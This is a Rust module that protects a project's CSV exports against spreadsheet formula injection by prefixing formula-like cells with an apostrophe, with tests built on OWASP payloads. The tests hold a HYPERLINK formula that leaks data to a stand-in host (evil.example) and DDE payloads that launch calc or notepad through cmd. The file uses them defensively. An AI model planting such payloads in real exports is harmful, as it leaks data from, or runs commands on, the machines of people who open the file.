//! Every CSV the project writes goes through [`CsvWriter`]: the console's batch
//! export, `id2meta results --format csv`, and any later report. One place, so
//! no writer can forget the rule below.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula
//! (`=HYPERLINK(...)` leaks data on a click, `=cmd|' /C calc'!A0` runs a command
//! in older Excel), and a leading tab or carriage return can hide such a start.
//! job_ids, batch_ids, metadata and masks come from producers, so any of them can
//! begin that way. OWASP's rule (the contract's): such a cell gets a leading `'`,
//! which spreadsheets show as text and never evaluate. Quoting and escaping of
//! separators, quotes and newlines stay the `csv` crate's (RFC 4180).

use std::borrow::Cow;
use std::io::Write;

/// The first characters that make a spreadsheet read a cell as a formula
/// (OWASP, "CSV Injection").
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as a spreadsheet may safely open it: prefixed with `'` if it starts
/// like a formula, else unchanged.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A `csv::Writer` whose every cell is [neutralised](neutralise).
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> Self {
        Self {
            inner: csv::Writer::from_writer(out),
        }
    }

    /// Writes one record, each cell neutralised.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.inner.write_record(
            record
                .into_iter()
                .map(|cell| neutralise(cell.as_ref()).into_owned()),
        )
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// The output, flushed.
    pub fn into_inner(self) -> Result<W, csv::IntoInnerError<csv::Writer<W>>> {
        self.inner.into_inner()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// OWASP's CSV-injection payloads ("CSV Injection", owasp.org), and the
    /// issue's own (a job_id and a batch_id as a producer could send them).
    const PAYLOADS: [&str; 12] = [
        "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"Error: click for details\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "\t=1+2",
        "\r=1+2",
        "=cmd|' /C notepad'!'A1'",
        "-1",
        "+1",
        "@",
    ];

    #[test]
    fn every_payload_of_owasps_list_reads_as_text() {
        for payload in PAYLOADS {
            let cell = neutralise(payload);
            assert_eq!(cell, format!("'{payload}"), "{payload:?}");
        }
    }

    #[test]
    fn ordinary_cells_are_unchanged() {
        for cell in [
            "b1-0",
            "",
            "张*",
            "110***********002X",
            "{\"a\":\"=x\"}",
            "1",
            "a=b",
            " =1",
        ] {
            assert_eq!(neutralise(cell), cell);
        }
    }

    #[test]
    fn written_cells_are_neutralised_then_quoted_as_csv_quotes_them() {
        let mut writer = CsvWriter::new(Vec::new());
        writer
            .write_record(["=1+2\";=1+2", "ok", "\r=x", "-5"])
            .expect("written");
        let text = String::from_utf8(writer.into_inner().expect("flushed")).expect("UTF-8");
        assert_eq!(text, "\"'=1+2\"\";=1+2\",ok,\"'\r=x\",'-5\n");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let record = reader
            .records()
            .next()
            .expect("a record")
            .expect("valid CSV");
        for cell in record.iter() {
            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?}");
        }
    }
}
